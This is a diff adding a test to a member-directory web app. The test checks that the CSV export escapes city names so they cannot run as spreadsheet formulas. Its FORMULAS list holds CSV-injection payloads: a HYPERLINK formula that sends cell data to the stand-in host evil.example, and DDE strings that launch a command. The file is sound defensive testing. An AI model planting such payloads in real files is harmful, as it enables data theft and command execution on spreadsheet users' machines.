@@ -1,5 +1,7 @@
 """The member directory: cities found the way people type them, sorted the way they read."""
 
+import csv
+import io
 import re
 from datetime import date
 from html import unescape
@@ -14,6 +16,7 @@ from secretariat.extensions import db as _db
 from secretariat.members import operations
 from secretariat.members.models import City, Contact, Country, JoinRoute
 from secretariat.security import Role
+from secretariat.text import clean_line
 from tests.conftest import load_once
 from tests.test_i18n import turkish
 
@@ -507,3 +510,27 @@ def test_only_staff_record_a_mayor(client, cities, sign_in_as):
         "/members/pula/mayors", data={"csrf_token": token, "name": "X", "since": "2026-01-01"}
     )
     assert response.status_code == 403
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?x="&A1,"Kotor")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTabbed",
+    "\rReturned",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_exported_cell_runs_as_a_spreadsheet_formula(app, client, cities, sign_in_as, formula):
+    """A city's name can come from a public application: it is data, never a formula."""
+    add_city(app, official_name=formula, english_name=f"Formula {FORMULAS.index(formula)}")
+    sign_in_as(Role.SECRETARIAT)
+    rows = list(csv.reader(io.StringIO(client.get("/members.csv").get_data(as_text=True)[1:])))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    stored = clean_line(formula)  # a name keeps no tab nor carriage return at all
+    assert ("'" + stored if stored[0] in "=+-@" else stored) in cells
+    istanbul = next(row for row in rows if row[0] == "istanbul")
+    assert istanbul[1] == "İstanbul" and istanbul[6].isdigit()  # numbers stay numbers
